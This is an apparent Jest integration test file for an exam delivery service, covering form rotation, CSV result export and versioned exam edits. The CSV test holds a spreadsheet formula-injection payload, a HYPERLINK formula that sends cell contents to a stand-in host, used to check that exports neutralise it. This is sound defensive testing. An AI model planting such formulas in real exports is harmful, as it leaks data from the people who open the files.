// Forms, results and edits, as officers and candidates meet them through HTTP.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { eventually } from '../engines/eventually.ts';
import { expectStatus } from '../engines/call.ts';
import { furnish, practitioner, publishForm } from './exam-delivery-content.ts';
import type { Form, World } from './exam-delivery-content.ts';
import {
  examBody,
  manager,
  publishedExam,
  reason,
  sittingOf,
  start,
} from './exam-delivery-exam.ts';
import { startExamDelivery } from './exam-delivery-service.ts';
import type { ExamDeliveryUnderTest } from './exam-delivery-service.ts';

let service: ExamDeliveryUnderTest;
let world: World;
let form: Form;
let examId: string;

beforeAll(async () => {
  service = await startExamDelivery();
  world = await furnish(service);
  form = await publishForm(service, world);
  examId = await publishedExam(service, world, [form]);
});
afterAll(() => service.stop());

/** Answers nothing right, hands in and waits for the failure. */
async function fail({ attemptId, token }: { attemptId: string; token: string }): Promise<void> {
  expectStatus(await service.withToken(token)('POST', `attempts/${attemptId}/submit`, {}), 200);
  await eventually(async () => {
    const rows = await service.database.query<unknown[]>(
      'select from attempt where attempt_id = $1 and released_at is not null',
      [attemptId],
    );
    return rows.length > 0 ? true : undefined;
  });
}

describe('the forms of an exam', () => {
  const day = 24 * 60;

  it('are another each time, a third of the items shared at most, until none is left', async () => {
    const first = await publishForm(service, world);
    const third = await publishForm(service, world, {
      blueprintId: first.blueprintId,
      shared: first.itemIds.slice(0, 1),
    });
    const exam = await publishedExam(service, world, [first, third]);
    const person = await practitioner(service, world.agencies.north);
    const taken: string[] = [];
    for (const wait of [31, 61]) {
      const started = await start(service, await sittingOf(service, exam, [person]), person);
      taken.push(started.formId);
      await fail(started);
      await service.passTime(wait * day);
    }
    expect(taken.toSorted()).toEqual([first.formId, third.formId].toSorted());
    const again = start(service, await sittingOf(service, exam, [person]), person);
    await expect(again).rejects.toThrow('every form of this exam has been taken');
  });

  it('do not serve a second time with more than a third of the items known', async () => {
    const first = await publishForm(service, world);
    const shared = first.itemIds.slice(0, 2);
    const alike = await publishForm(service, world, { blueprintId: first.blueprintId, shared });
    const exam = await publishedExam(service, world, [first, alike]);
    const person = await practitioner(service, world.agencies.north);
    await fail(await start(service, await sittingOf(service, exam, [person]), person));
    await service.passTime(31 * day);
    const again = start(service, await sittingOf(service, exam, [person]), person);
    await expect(again).rejects.toThrow('more than a third');
  });
});

describe('results as CSV', () => {
  it('run no formula in a spreadsheet, and show an agency its own people only', async () => {
    const [north, south] = [
      await practitioner(service, world.agencies.north),
      await practitioner(service, world.agencies.south),
    ];
    const sittingId = await sittingOf(service, examId, [north, south]);
    const bad = '=HYPERLINK("http://example.org/?x="&A1,"Ҷавоб")';
    for (const person of [north, south]) {
      const { attemptId } = await start(service, sittingId, person);
      const act = { reason: bad };
      expectStatus(await manager(service)('POST', `attempts/${attemptId}/void`, act), 204);
    }
    const read = async (agency?: string) =>
      manager(service, agency)('GET', `sittings/${sittingId}/results.csv`);
    const all = expectStatus(await read(), 200);
    expect(all.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(all.headers.get('content-disposition')).toContain('attachment');
    const cell = `,"'=HYPERLINK(""http://example.org/?x=""&A1,""Ҷавоб"")"`;
    const lines = all.text.trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines.slice(1).every((line) => line.endsWith(cell))).toBe(true);
    const own = expectStatus(await read(world.agencies.south), 200);
    expect(own.text).toContain(south);
    expect(own.text).not.toContain(north);
    const outsider = service.as({ sub: 'outsider', permissions: ['exams.edit'] });
    expect((await outsider('GET', `sittings/${sittingId}/results.csv`)).status).toBe(403);
  });
});

describe('an edit of an exam', () => {
  it('says which version it changes: without 428, with an old one 412, with the right one it is done', async () => {
    const editor = service.as({ sub: 'editor', permissions: ['exams.edit'] });
    const body = examBody(world, [form]);
    const made = expectStatus(await editor('POST', 'exams', body), 201);
    const path = `exams/${(made.json as { examId: string }).examId}`;
    const read = expectStatus(await editor('GET', path), 200);
    const tag = read.headers.get('etag') ?? '';
    const change = { ...body, level: 4 };
    expect((await editor('PUT', path, change)).status).toBe(428);
    expect((await editor('PUT', path, change, { 'if-match': '"7"' })).status).toBe(412);
    expect((await editor('GET', path)).json).toMatchObject({ level: 1, version: 1 });
    expectStatus(await editor('PUT', path, change, { 'if-match': tag }), 200);
    // A second editor with the version that both had read changes nothing behind the first one's back.
    expect((await editor('PUT', path, body, { 'if-match': tag })).status).toBe(412);
    expect((await editor('GET', path)).json).toMatchObject({ level: 4, version: 2 });
    // Nor does somebody publish what he has not read.
    const publisher = service.as({ sub: 'publisher', permissions: ['exams.publish'] });
    const publish = (read: string) =>
      publisher('POST', `${path}/publish`, reason, { 'if-match': read });
    expect((await publish(tag)).status).toBe(412);
    const now = (await editor('GET', path)).headers.get('etag') ?? '';
    // Read anew, it is judged by its rules: no exam evidences level 4.
    expect((await publish(now)).problem.reason).toBe('exam-not-ready');
  });
});
